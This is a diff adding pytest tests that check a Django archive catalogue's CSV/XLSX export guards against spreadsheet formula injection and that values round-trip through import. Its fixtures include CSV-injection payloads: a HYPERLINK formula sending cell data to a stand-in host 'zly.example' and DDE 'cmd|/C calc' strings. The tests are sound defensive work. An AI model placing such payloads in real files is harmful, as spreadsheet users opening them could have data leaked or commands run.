@@ -197,3 +197,64 @@ def test_export_of_empty_catalogue_writes_only_the_header(tmp_path):
     path = tmp_path / "pusty.csv"
     call_command("export_catalogue", str(path), stdout=io.StringIO())
     assert path.read_text(encoding="utf-8-sig").splitlines() == [",".join(COLUMNS)]
+
+
+# --- formulas (OWASP CSV injection) -----------------------------------------------------------
+
+FORMULA_LIKE = {
+    "title": '=HYPERLINK("http://zly.example/?"&A1,"Kliknij")',
+    "title_en": "+cmd|' /C calc'!A0",
+    "description": "- punkt listy\n- drugi punkt",  # Markdown list: must come back as it was
+    "description_en": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "rights_holder": "'=already quoted",  # really begins with an apostrophe
+    "source": "\r=carriage return",
+    "date": "-0500",  # 500 BC
+}
+PLAIN = {"title": "'apostrof na początku", "title_en": "'", "source": "tab\tinside = fine"}
+
+
+def formula_catalogue() -> None:
+    ItemFactory(identifier="MOK-X-0001", status=Status.DRAFT, **FORMULA_LIKE)
+    ItemFactory(identifier="MOK-X-0002", status=Status.DRAFT, **PLAIN)
+
+
+def test_csv_export_writes_no_cell_a_spreadsheet_would_run(tmp_path):
+    formula_catalogue()
+    path = tmp_path / "katalog.csv"
+    call_command("export_catalogue", str(path), stdout=io.StringIO())
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = {row["identifier"]: row for row in csv.DictReader(handle)}
+    cells = [value for row in rows.values() for value in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    guarded = rows["MOK-X-0001"]
+    assert guarded["title"] == "'" + FORMULA_LIKE["title"]
+    assert guarded["date"] == "'-0500"
+    assert guarded["rights_holder"] == "''=already quoted"
+    plain = rows["MOK-X-0002"]
+    assert {name: plain[name] for name in PLAIN} == PLAIN  # nothing added where not needed
+
+
+@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
+def test_formula_like_values_round_trip_unchanged(tmp_path, suffix):
+    formula_catalogue()
+    fields = sorted({*FORMULA_LIKE, *PLAIN})
+    before = {i.identifier: [getattr(i, f) for f in fields] for i in Item.objects.all()}
+    path = tmp_path / f"katalog.{suffix}"
+    call_command("export_catalogue", str(path), stdout=io.StringIO())
+    empty_database()
+    call_command("import_catalogue", str(path), stdout=io.StringIO())
+    after = {i.identifier: [getattr(i, f) for f in fields] for i in Item.objects.all()}
+    if suffix == "xlsx":  # XLSX keeps no control characters; the importer trims cells
+        before["MOK-X-0001"][fields.index("source")] = "=carriage return"
+    assert after == before
+    assert Item.objects.get(identifier="MOK-X-0001").date_start == -500
+
+
+def test_guard_and_unguard_are_inverse_for_every_start():
+    from archive.formulas import guard_formula, unguard_formula
+
+    starts = ["", "'", "''", "a", " ", "=", "+", "-", "@", "\t", "\r", "'=", "''-", "'a"]
+    for start in starts:
+        for rest in ("", "x", "=1"):
+            value = start + rest
+            assert unguard_formula(guard_formula(value)) == value, repr(value)
